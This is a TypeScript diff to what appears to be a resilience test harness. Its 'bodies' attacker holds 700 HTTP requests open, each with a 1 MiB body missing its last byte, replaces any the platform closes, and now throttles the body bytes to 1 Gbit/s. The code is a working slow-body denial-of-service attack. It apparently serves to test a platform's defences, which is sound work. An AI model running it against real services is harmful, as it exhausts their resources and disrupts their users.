@@ -40,6 +40,9 @@ export interface Counts {
 
 const mebibyte = 2 ** 20;
 const intervalMs = 20;
+/** 1 Gbit/s. */
+const networkBytesPerSecond = 125_000_000;
+const chunkBytes = 16 * 1024;
 
 /** Calls `act` this often until the returned function is called. */
 function pace(perSecond: number, act: () => void): () => void {
@@ -88,10 +91,17 @@ export function createAttackers({ ingress, host }: Places, counts: Counts) {
     call.end(body);
   };
 
-  /** Holds this many bodies of 1 MB open that lack their last byte, and replaces those that the platform closes. */
+  /**
+   * Holds 700 bodies of 1 MB open that lack their last byte, and replaces those that the platform closes. All heads are
+   * sent at once; the bodies share 1 Gbit/s, as behind a network, and their bytes come in turns. Without that limit, what
+   * is measured is the copying of 700 MB into this machine's own socket buffers, which the kernel does not interrupt.
+   */
   const bodies = (): Attacker => {
     const held = new Set<Socket>();
-    let stop: (() => void) | undefined;
+    /** Sockets whose body is not sent yet, with the bytes that remain. */
+    const sending = new Map<Socket, number>();
+    const chunk = Buffer.alloc(chunkBytes, ' ');
+    const stops: (() => void)[] = [];
     const open = ({ host: name, path }: Victim) => {
       if (held.size >= 700) return;
       counts.requests++;
@@ -100,18 +110,36 @@ export function createAttackers({ ingress, host }: Places, counts: Counts) {
       held.add(socket);
       socket.once('data', (answer: Buffer) => count(answer.toString('latin1', 9, 12)));
       socket.on('error', () => undefined);
-      socket.once('close', () => held.delete(socket));
+      socket.once('close', () => {
+        held.delete(socket);
+        sending.delete(socket);
+      });
       socket.write(`${head}\r\n\r\n`);
-      socket.write(Buffer.alloc(mebibyte - 1, ' '));
+      sending.set(socket, mebibyte - 1);
+    };
+    const sendNext = () => {
+      const [next] = sending;
+      if (!next) return;
+      const [socket, remaining] = next;
+      sending.delete(socket);
+      if (socket.writableNeedDrain) {
+        sending.set(socket, remaining);
+        return;
+      }
+      socket.write(remaining < chunkBytes ? chunk.subarray(0, remaining) : chunk);
+      if (remaining > chunkBytes) sending.set(socket, remaining - chunkBytes);
     };
     return {
       begin([victim]) {
         if (!victim) throw new Error('no victim');
         for (let index = 0; index < 700; index++) open(victim);
-        stop = pace(50, () => open(victim));
+        stops.push(
+          pace(50, () => open(victim)),
+          pace(networkBytesPerSecond / chunkBytes, sendNext),
+        );
       },
       end() {
-        stop?.();
+        for (const stop of stops.splice(0)) stop();
         for (const socket of held) socket.destroy();
       },
     };
